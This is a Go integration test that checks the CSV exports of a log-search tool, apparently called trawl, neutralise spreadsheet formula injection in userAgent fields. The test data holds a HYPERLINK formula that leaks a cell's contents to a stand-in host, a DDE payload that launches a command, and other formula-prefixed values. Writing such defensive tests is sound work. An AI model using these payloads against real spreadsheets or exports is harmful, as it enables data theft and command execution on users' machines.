package integration

import (
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/trawlhq/trawl/internal/testutil/s3server"
)

// TestCSVExportNeutralisesFormulas: a hostile userAgent (and other text
// starting with a formula character) reaches every CSV path — the API's
// export, `trawl search --format csv` streamed and with --limit — as a
// quoted cell with a single quote in front, so a spreadsheet shows it as
// text; the NDJSON export keeps it exact.
func TestCSVExportNeutralisesFormulas(t *testing.T) {
	srv := s3server.Start(t)
	srv.Fill(t, "evil", nil)
	const agent = `=HYPERLINK("http://127.0.0.1/?leak="&A1,"open")`
	hostile := map[string]string{"=": agent, "+": "+1+cmd|' /C calc'!A0", "-": "-2+3", "@": "@SUM(1+1)", "\t": "\t=1+1", "\r": "\r=1+1"}
	var recs []map[string]any
	for _, ua := range hostile {
		ev := ctEvent("iam.amazonaws.com", "GetUser", time.Now().Add(-time.Minute))
		ev["userAgent"] = ua
		ev["eventID"] = fmt.Sprintf("ua-%d", len(recs))
		recs = append(recs, ev)
	}
	putEvents(t, srv, "evil", recs...)
	data := t.TempDir()
	s := serveAPI(t, data)
	addConnector(t, srv, data, "evil", "evil", "AWSLogs/"+acct+"/CloudTrail", srv.SecretKey)
	mustTrawl(t, data, "collect", "--once", "evil")

	export := func(format string) string {
		req, _ := http.NewRequest("GET", s.base+"/api/v1/export?from=-7d&format="+format+"&columns=event_id,user_agent", nil)
		req.Header.Set("Authorization", "Bearer "+s.root)
		resp, err := (&http.Client{Timeout: time.Minute}).Do(req)
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		b, _ := io.ReadAll(resp.Body)
		if resp.StatusCode != 200 {
			t.Fatalf("export %s: %d %s", format, resp.StatusCode, b)
		}
		return string(b)
	}
	outputs := map[string]string{
		"API export":                export("csv"),
		"trawl search --format csv": mustTrawl(t, data, "search", "--from", "-7d", "--format", "csv", "--columns", "event_id,user_agent"),
		"trawl search --limit":      mustTrawl(t, data, "search", "--from", "-7d", "--format", "csv", "--columns", "event_id,user_agent", "--limit", "100"),
	}
	for path, out := range outputs {
		rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
		if err != nil || len(rows) != len(hostile)+1 {
			t.Errorf("%s: %d rows (%v), want %d:\n%s", path, len(rows), err, len(hostile)+1, out)
			continue
		}
		var agents []string
		for _, r := range rows[1:] {
			agents = append(agents, r[1])
		}
		for _, ua := range hostile {
			if !slices.Contains(agents, "'"+ua) {
				t.Errorf("%s: no neutralised cell '%q among %q", path, ua, agents)
			}
		}
		// Every cell is quoted: each line starts with a quote and holds
		// no unquoted separator.
		for _, l := range strings.Split(strings.TrimSuffix(out, "\r\n"), "\r\n") {
			if !strings.HasPrefix(l, `"`) || !strings.HasSuffix(l, `"`) {
				t.Errorf("%s: a line with an unquoted cell: %q", path, l)
			}
		}
	}
	var exact []string
	for _, l := range strings.Split(strings.TrimSpace(export("ndjson")), "\n") {
		var m map[string]any
		if err := json.Unmarshal([]byte(l), &m); err != nil {
			t.Fatalf("ndjson line %q: %v", l, err)
		}
		exact = append(exact, m["user_agent"].(string))
	}
	for _, ua := range hostile {
		if !slices.Contains(exact, ua) {
			t.Errorf("NDJSON export changed %q: %q", ua, exact)
		}
	}
}
